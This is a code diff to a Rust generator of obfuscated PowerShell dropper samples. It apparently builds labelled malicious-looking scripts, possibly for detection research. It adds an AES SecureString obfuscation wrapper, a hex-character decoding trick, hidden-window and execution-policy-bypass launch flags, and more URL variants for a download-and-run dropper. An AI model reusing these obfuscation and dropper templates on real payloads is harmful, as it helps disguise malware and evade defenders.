@@ -39,7 +39,25 @@ fn ticked(dice: &mut Dice, text: &str) -> String {
 }
 
 pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
-    match dice.below(19) {
+    match dice.below(21) {
+        19 => {
+            let (key, vector) = (bytes(dice, 16), bytes(dice, 16));
+            let data = hex(&cipher::aes_cbc(&key, &vector, &wide(text)));
+            let inner = format!("2|{}|{data}", base64(&vector));
+            // What stands in front is how the format begins.
+            format!(
+                "([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('76492d1116743f0423413b16050a5345{}' | ConvertTo-SecureString -Key ({})))))",
+                base64(&wide(&inner)),
+                codes(key, ",")
+            )
+        }
+        20 => {
+            let mark = dice.pick(&["S", "x", "J", "-", "k"]);
+            let list = each(text, mark, |it| format!("{it:x}"));
+            format!(
+                "(\"$(SEt-ItEM 'VaRIabLe:oFs' '')\"+[string]('{list}'.SPlIt('{mark}') | % {{ ([char][Convert]::ToInt16($_,16)) }})+\"$(Sv 'oFS' ' ')\")"
+            )
+        }
         0 => {
             let pieces = dice.pieces(text);
             let order = dice.order(pieces.len());
@@ -310,8 +328,13 @@ fn run(dice: &mut Dice, text: &str) -> String {
 /// How another shell is started.
 fn shell(dice: &mut Dice) -> String {
     let program = dice.pick(&["powershell", "powershell.exe", "POWERSHELL.EXE"]);
-    let options =
-        ["-NoP", "-NonI", "-W Hidden", "-Exec Bypass", "-ep bypass", "-noprofile", "-w 1", "-sta"];
+    let options = [
+        dice.pick(&["-NoP", "-noprofile"]),
+        "-NonI",
+        dice.pick(&["-W Hidden", "-w 1", "-WindowStyle Hidden"]),
+        dice.pick(&["-Exec Bypass", "-ep bypass", "-ExecutionPolicy Unrestricted"]),
+        "-sta",
+    ];
     let mut out = program.to_owned();
     for at in dice.order(options.len()).into_iter().take(1 + dice.below(3)) {
         out.push_str(&format!(" {}", cased(dice, options[at])));
@@ -381,7 +404,7 @@ fn wrapped(dice: &mut Dice, script: &str) -> String {
 /// What means nothing, or what a victim passes.
 fn junk(dice: &mut Dice) -> String {
     let mut out = String::new();
-    for _ in 0..1 + dice.below(4) {
+    for _ in 0..super::much(dice) {
         let (one, two) = (name(dice), camel(dice));
         out.push_str(&match dice.below(7) {
             0 => format!("${one} = {} + {}\n", dice.below(900), dice.below(900)),
@@ -410,7 +433,7 @@ pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
 fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
     match dice.below(15) {
         0 => {
-            let url = truth.url(dice, &["", ".ps1", ".txt", "/a"]);
+            let url = truth.url(dice, &["", ".ps1", ".txt", "/a", ".php?id=9f", "?k=a1"]);
             let (before, word) = hidden(dice, &url);
             let text = fetched(dice, &word);
             before + &run(dice, &text) + "\n"
